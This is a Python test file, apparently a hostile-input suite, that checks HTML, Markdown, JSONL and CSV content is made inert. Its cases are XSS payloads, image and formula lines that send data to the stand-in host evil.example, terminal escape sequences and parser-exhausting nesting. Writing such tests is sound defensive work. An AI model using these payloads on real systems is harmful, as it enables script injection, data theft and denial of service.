"""D. Active content: it becomes text, and nothing of it runs or is fetched."""

from __future__ import annotations

import json

from tests.hostile.make import Case, holding

BODY = "<p>Warung itu dibuka pada hari Senin, kata pemiliknya kepada para wartawan di kota.</p>"

HTML = {
    "D01": "<script>alert(1)</script>",
    "D02": "<img src=x onerror=alert(1)>",
    "D03": "<svg onload=alert(1)><text>x</text></svg>",
    "D06": '<div style="position:fixed;inset:0">tutup</div>',
    "D07": '<div style="background:url(//evil.example/x)">x</div>',
    "D08": '<base href="https://evil.example/">',
    "D09": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "D10": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "D11": "<form action=//evil.example><button>kirim</button></form>",
    "D12": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "D13": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "D14": '<template shadowrootmode="open"><script>alert(1)</script></template>',
    "D19": '<div class="mermaid">graph TD; A-->B; click A "javascript:alert(1)"</div>',
    "D21": "<style>@import '//evil.example/x.css';</style>",
    "D22": '<link rel="prefetch" href="//evil.example"><link rel=stylesheet href=//evil.example>',
    "D23": '<video poster="//evil.example/x"></video><audio src="//evil.example/y"></audio>',
    "D24": "<object data=//evil.example></object><embed src=//evil.example><applet code=x>",
    "D25": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "D26": '<a ping="//evil.example" href="/x">x</a><picture><source srcset="//evil.example/z">',
    "D27": "<!-- komentar --> <!-- x --!> --> <p>Akhir dari komentar.</p>",
    "D39": '<button class="chip" data-article="a" data-evidence="0-9">1</button>',
}
TEXT = {
    "D04": "[x](javascript:alert(1)) [y](JaVa&#9;Script:alert(1)) <javascript:alert(1)>",
    "D05": "[x](data:text/html,<script>alert(1)</script>)",
    "D15": "![](https://evil.example/?q=rahasia)",
    "D16": "![x][1] [y][1]\n\n[1]: https://evil.example/ 'judul'",
    "D17": "<https://evil.example/>",
    "D18": "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "D20": "$$\\href{javascript:alert(1)}{x}$$ \\includegraphics{//evil.example/x}",
    "D32": "Kalimat </mark><script>alert(1)</script> di batas kutipan.",
    "D33": "Nilai ${alert(1)} dan {{constructor.constructor('x')()}} dan `x`.",
    "D34": "Ditulis %3Cscript%3E dan &lt;script&gt; begitu saja.",
    "D36": "Teks \x1b[31mmerah\x1b[0m dan \rtimpa.",
    "D37": "Tautan \x1b]8;;https://evil.example\x07x\x1b]8;;\x07 \x1b]0;judul\x07.",
    "D40": "[1] Source: https://evil.example, 2022\n\nJawaban: 42 [1]",
}


def page(extra: str, title: str = "Warung Baru") -> str:
    """Return a page with an article and something else."""
    return f"<html><head><title>{title}</title></head><body><article>{extra}{BODY}</article>"


CASES = [
    # D12 opens a style that it never closes: no text is left.
    *(
        Case(name, "any" if name == "D12" else "IX", holding("a.html", page(extra)))
        for name, extra in HTML.items()
    ),
    *(Case(name, "IX", holding("a.md", f"Teks.\n\n{text}\n")) for name, text in TEXT.items()),
    Case("D28", "any", holding("a.html", lambda: page("<b><i>" * 50_000))),
    Case("D29", "any", holding("a.html", lambda: page("<div>" * 100_000))),
    Case("D30", "any", holding("a.html", lambda: page(f'<p title="{"x" * 5_000_000}">x</p>'))),
    Case("D31", "IX", holding("a.html", page("", "Judul</title><script>alert(1)</script>"))),
    Case("D35", "IX", holding("a.jsonl", json.dumps(
        {"text": "Isi.", "author": "<b>x</b>", "date": "<i>", "tags": "<script>"}))),
    Case("D38", "IX", holding("a.csv", 'title,text\n"=HYPERLINK(""//evil.example"")",Isi.\n')),
]  # fmt: skip
